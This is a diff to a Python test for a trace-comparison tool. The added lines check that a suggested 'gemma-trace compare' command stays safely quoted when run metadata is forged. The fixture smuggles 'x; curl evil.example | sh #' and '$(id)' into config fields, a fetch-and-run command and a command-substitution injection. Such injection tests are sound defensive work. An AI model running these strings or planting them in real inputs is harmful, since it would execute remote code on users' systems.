@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from dataclasses import replace
 from pathlib import Path
 from typing import Any
@@ -164,6 +165,12 @@ def test_low_precision(tmp_path: Path) -> None:
     assert ceiling_ms(finding) == 64 * 15 / 16 + 10 / 2
     assert finding.confidence is Confidence.LOW
     assert finding.check == "gemma-trace compare --set dtype=float32,bfloat16 --set device=cpu"
+    forged = products("float32")
+    config = METADATA.config | {"model": "x; curl evil.example | sh #", "dtype": "$(id)"}
+    forged.metadata(replace(METADATA, run=replace(METADATA.run, dtype="float32"), config=config))
+    words = shlex.split(one(forged, tmp_path, "low_precision").check)
+    settings = ["--set", "dtype=$(id),bfloat16", "--set", "model=x; curl evil.example | sh #", "--set", "device=cpu"]
+    assert words == ["gemma-trace", "compare", *settings], "a trace puts nothing into a shell"
     assert "low_precision" not in rules(products("bfloat16"), tmp_path)
     foreign = request().span(**product("float", "float"))
     assert ceiling_ms(one(foreign, tmp_path, "low_precision")) == 60
